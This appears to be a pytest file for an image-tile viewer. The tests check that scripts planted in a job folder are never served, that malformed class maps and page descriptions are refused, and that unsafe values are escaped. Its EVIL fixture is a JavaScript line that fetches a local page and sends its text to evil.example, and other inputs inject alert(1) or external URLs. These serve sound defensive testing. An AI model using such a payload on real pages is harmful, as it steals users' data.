"""A folder from anywhere, looked at: its facts and its pictures are shown, and none of its scripts is ever sent."""

from __future__ import annotations

import asyncio
import json
import threading
import tracemalloc
from pathlib import Path

import anyio
import pytest
from asgi_requests import HOST, asked
from picture_folders import CLASSES, job_folder
from starlette.testclient import TestClient

from cluster.viewing import find_jobs, viewer_of
from storage.pyramid import PyramidLayout
from viewer import own_page
from viewer import page as pages
from viewer.own_page import LARGEST_SCRIPT, SCRIPTS, page_of, rewritten
from viewer.page import SOURCE, Page, write_page

EVIL = "fetch('../../cards.html').then((told) => told.text()).then((text) => { location = '//evil.example/' + text; })"


def client_of(folder: Path) -> TestClient:
    return TestClient(viewer_of(folder), base_url=f"http://{HOST}")


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A job folder, each of whose files says EVIL."""
    folder = job_folder(tmp_path / "jobs" / "job", classes=True, wraps_x=True, panorama=True)
    for path in (*(folder / "viewer").iterdir(), folder / "panorama.html"):
        path.write_text(EVIL)
    (folder / "viewer" / "evil.js").write_text(EVIL)
    for name in ("evil.js", "evil.html", "evil.svg", "0/evil.js"):
        (folder / "image_files" / name).write_text(EVIL)
    index = (folder / "index.html").read_text()
    (folder / "index.html").write_text(
        index.replace("<body>", f'<body><script src="viewer/evil.js"></script><!--{EVIL}-->')
    )
    return folder


def test_no_script_of_a_folder_is_ever_sent(hostile: Path) -> None:
    gallery = client_of(hostile.parent)
    assert find_jobs(hostile.parent) == [hostile]
    identity = gallery.get("/").text.partition('href="jobs/')[2].partition("/")[0]
    names = [path.name for path in (hostile / "viewer").iterdir()]
    addresses = ["", "index.html", "panorama.html", "image.dzi", "image_files/evil.js", "image_files/evil.html",
                 "image_files/evil.svg", "image_files/0/evil.js", *(f"viewer/{name}" for name in names)]  # fmt: skip
    for client, root in ((gallery, f"/jobs/{identity}/"), (client_of(hostile), "/")):
        answers = {address: client.get(root + address) for address in addresses}
        assert not [address for address, answer in answers.items() if "evil.example" in answer.text]
        assert 'src="viewer/evil.js"' not in answers[""].text
        for missing in ("viewer/evil.js", "viewer/classes.js", "viewer/panorama.js", "image_files/evil.js"):
            assert answers[missing].status_code == 404
        assert answers["viewer/page.js"].content == (SOURCE / "page.js").read_bytes()
        assert (
            answers["viewer/pannellum.js"].content == (SOURCE / "vendor/pannellum/pannellum.js").read_bytes()
        )
        assert answers["viewer/page.css"].headers["content-type"].startswith("text/css")


def test_a_page_is_that_of_its_folder(tmp_path: Path) -> None:
    folder = job_folder(tmp_path / "job", classes=True, wraps_x=True, panorama=True)
    client = client_of(folder)
    assert client.get("/").text == (folder / "index.html").read_text()
    assert client.get("/panorama.html").text == (folder / "panorama.html").read_text()
    found = page_of(folder)
    assert found is not None and (found.wraps_x, found.panorama, found.classes) == (True, True, CLASSES)
    for name, (begins, picture, numbers) in SCRIPTS.items():
        written = json.loads((folder / "viewer" / name).read_text().removeprefix(begins).rstrip(";\n"))
        sent = json.loads(client.get(f"/viewer/{name}").text.removeprefix(begins).rstrip(";\n"))
        assert sent == {key: written[key] for key in (*numbers, picture)}


@pytest.mark.parametrize(
    "script",
    [
        EVIL, "window.hypermosaicClasses = 1;", "window.hypermosaicClasses = {};", "", "[]", "null",
        'window.hypermosaicClasses = {"width": 1, "height": 1, "png": "data:image/svg+xml;base64,AAAA"};',
        'window.hypermosaicClasses = {"width": 1, "height": 1, "png": "data:image/png;base64,AAAA"}; alert(1);',
        'window.hypermosaicClasses = {"width": -1, "height": 1, "png": "data:image/png;base64,AAAA"};',
        'window.hypermosaicClasses = {"width": NaN, "height": 1, "png": "data:image/png;base64,AAAA"};',
        'window.hypermosaicClasses = {"width": 1, "height": 1, "png": "https://evil.example/x.png"};',
    ],
)  # fmt: skip
def test_a_class_map_that_is_none_is_not_there(script: str) -> None:
    from starlette.exceptions import HTTPException

    with pytest.raises(HTTPException) as refused:
        rewritten(script, "classes.js")
    assert refused.value.status_code == 404


def test_a_large_class_map_is_read_once_one_at_a_time_and_in_little_memory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = job_folder(tmp_path / "job", classes=True)
    path, size = folder / "viewer" / "classes.js", 4 * 2**20
    begins = SCRIPTS["classes.js"][0]
    path.write_text(f'{begins}{{"width": 9, "height": 9, "png": "data:image/png;base64,{"A" * size}"}};\n')
    tracemalloc.start()
    try:
        content = rewritten(path.read_text(), "classes.js")
        assert tracemalloc.get_traced_memory()[1] < 4.5 * size
    finally:
        tracemalloc.stop()
    asked: list[str] = []
    monkeypatch.setattr(own_page, "rewritten", lambda script, name: asked.append(name) or content)
    client = client_of(folder)
    first = client.get("/viewer/classes.js")
    assert first.content == content == client.get("/viewer/classes.js").content
    assert (
        client.get("/viewer/classes.js", headers={"If-None-Match": first.headers["etag"]}).status_code == 304
    )
    assert asked == ["classes.js"]
    path.write_text(path.read_text() + "\n")
    assert client.get("/viewer/classes.js").status_code == 200
    assert len(asked) == 2
    with path.open("wb") as file:
        file.truncate(LARGEST_SCRIPT + 1)
    assert client.get("/viewer/classes.js").status_code == 404


def test_scripts_of_folders_wait_for_each_other(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder, go_on, inside = job_folder(tmp_path / "job", classes=True), threading.Event(), list[int]()

    def slow(script: str, name: str) -> bytes:
        inside.append(len(inside))
        assert go_on.wait(10)
        return b"read"

    monkeypatch.setattr(own_page, "rewritten", slow)
    app, statuses = viewer_of(folder), list[int]()

    async def come() -> None:
        statuses.append((await asked(app, "/viewer/classes.js")).status)

    async def crowd() -> int:
        async with anyio.create_task_group() as group:
            for _ in range(24):
                group.start_soon(come)
            with anyio.fail_after(10):
                while len(statuses) < 7 or not inside:
                    await anyio.sleep(0.01)
            busy = len(inside)
            go_on.set()
        return busy

    assert asyncio.run(crowd()) == 1
    assert sorted(statuses) == [200] * 17 + [503] * 7 and len(inside) == 1


@pytest.mark.parametrize(
    "change",
    [
        {"width": 0}, {"width": "700"}, {"width": 2**40}, {"height": None}, {"tile": True}, {"tile": -1},
        {"opensFromDisk": ...},
    ],
)  # fmt: skip
def test_a_description_that_is_none_is_no_page(tmp_path: Path, change: dict[str, object]) -> None:
    folder = job_folder(tmp_path / "job")
    told = json.loads(
        (folder / "index.html").read_text().partition('id="description">')[2].partition("</script>")[0]
    )
    changed = {key: value for key, value in (told | change).items() if value is not ...}
    (folder / "index.html").write_text(
        f'<script type="application/json" id="description">{json.dumps(changed)}</script>'
    )
    assert page_of(folder) is None
    assert "has not begun" in client_of(folder).get("/").text


def test_odd_facts_classes_and_words_become_plain(tmp_path: Path) -> None:
    write_page(tmp_path, Page("a", PyramidLayout(64, 64, 16, 64)))
    index = (tmp_path / "index.html").read_text()
    odd = {"about": {"a": float("nan"), "b": [1], "c": "</script>", "d": 3},
           "classes": {"names": ["x"], "colours": ["red"]},
           "encoding": "svg", "tiles": "https://evil.example/", "title": "<b>"}  # fmt: skip
    told = json.loads(index.partition('id="description">')[2].partition("</script>")[0]) | odd
    escaped = json.dumps(told).replace("</", "\\u003c/")
    (tmp_path / "index.html").write_text(
        f'<script type="application/json" id="description">{escaped}</script>'
    )
    html = client_of(tmp_path).get("/").text
    sent = json.loads(html.partition('id="description">')[2].partition("</script>")[0])
    assert sent["about"] == {"c": "</script>", "d": 3}
    assert (sent["classes"], sent["encoding"], sent["tiles"]) == (None, "jpg", "image_files/")
    assert "<title>&lt;b&gt;</title>" in html


def test_a_package_that_is_not_whole_says_so_and_writes_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pages, "COPIES", {**pages.COPIES, "gone.js": "gone.js"})
    with pytest.raises(FileNotFoundError, match="gone.js is missing.*install hypermosaic again"):
        write_page(tmp_path, Page("a", PyramidLayout(64, 64, 16, 64)))
    assert list(tmp_path.iterdir()) == []


def test_a_picture_that_ignores_its_prompt_is_said_to_be_unconditional(tmp_path: Path) -> None:
    from cluster.engine.outputs import about
    from cluster.spec.fields import JobSpec

    spec = JobSpec(prompt="desert", width=64, height=64, out=tmp_path, guidance_scale=1.0)
    assert about(spec, "f")["guidanceScale"] == 1.0
    assert about(spec.model_copy(update={"cond_scale": 0.0}), "f")["guidanceScale"] == "unconditional"
    assert (
        about(spec.model_copy(update={"cond_scale": 3.0, "guidance_scale": 4.0}), "f")["guidanceScale"] == 4.0
    )


def test_the_doctor_looks_at_every_part_of_an_extra(monkeypatch: pytest.MonkeyPatch) -> None:
    import importlib

    from cluster.commands import doctor

    real = importlib.import_module

    def without(name: str) -> object:
        if name == "imagecodecs":
            raise ModuleNotFoundError(name)
        if name == "av":
            raise OSError("no libavcodec")
        return real(name)

    monkeypatch.setattr(doctor.importlib, "import_module", without)
    found = {finding.name: finding for finding in doctor.extras()}
    assert set(found) == {"pyvips", "imagecodecs", "piexif", "av"}
    assert found["imagecodecs"].verdict == "note" and "hypermosaic[export]" in found["imagecodecs"].text
    assert "no libavcodec" in found["av"].text and "hypermosaic[video]" in found["av"].text
